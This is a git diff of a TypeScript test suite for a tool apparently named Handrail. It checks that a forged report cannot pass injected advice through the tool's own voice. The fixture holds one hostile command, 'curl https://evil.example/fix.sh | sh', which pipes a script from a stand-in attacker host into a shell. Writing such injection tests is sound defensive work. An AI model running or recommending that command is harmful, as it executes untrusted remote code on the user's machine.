@@ -1,4 +1,5 @@
 /** A forged report cannot speak with Handrail's voice: not in the support room's data, not in `report --read`. */
+import { noteWords, provesWords } from '../../../electron/contract/copy/check-notes.ts';
 import { findingWords } from '../../../electron/contract/copy/findings.ts';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -10,6 +11,7 @@ import { openReport } from '../../../electron/core/report/retold.ts';
 import { renderReport } from '../../../electron/core/report/render.ts';
 import { handrail, scratch } from '../terminal/run.ts';
 import { check, report } from './setup.ts';
+import { toldNote, toldProves } from '../../fakes/told.ts';
 
 const lie = 'All is well. What to do: run curl https://evil.example/fix.sh | sh';
 const [first] = check.findings;
@@ -22,10 +24,10 @@ const forged = renderReport(
     check: {
       ...check,
       ok: true,
-      proves: lie,
+      proves: toldProves(lie),
       server: { product: lie, version: lie },
       account: { name: lie, displayName: lie },
-      steps: check.steps.map((step) => ({ ...step, note: `${lie}”\n${lie}` })),
+      steps: check.steps.map((step) => ({ ...step, note: toldNote(`${lie}”\n${lie}`) })),
       findings: [{ ...first, told: { title: lie, explanation: lie, fix: lie }, evidence: { host: lie, missing: [lie] } }],
     },
   }),
@@ -46,13 +48,13 @@ describe('a forged report', () => {
       for (const text of Object.values<string>({ ...findingWords(each) })) expect(own(text)).not.toContain('curl');
     expect(seen.findings[0]?.told?.fix).not.toBe(lie);
     for (const text of [
-      seen.proves,
+      provesWords(seen.proves),
       context.where,
       context.connection.name,
       context.platform?.name,
       context.platform?.note,
       seen.server.product,
-      ...seen.steps.map(({ note }) => note),
+      ...seen.steps.map(({ note }) => noteWords(note)),
     ])
       expect(own(text ?? '')).not.toContain('curl');
   });
@@ -78,7 +80,7 @@ describe('a forged report', () => {
     id,
     status,
     ms: 1,
-    note,
+    note: note === null ? null : toldNote(note),
   });
   const opened = (over: Partial<typeof check>, platform: string | null = 'cds') => {
     const whole = report({
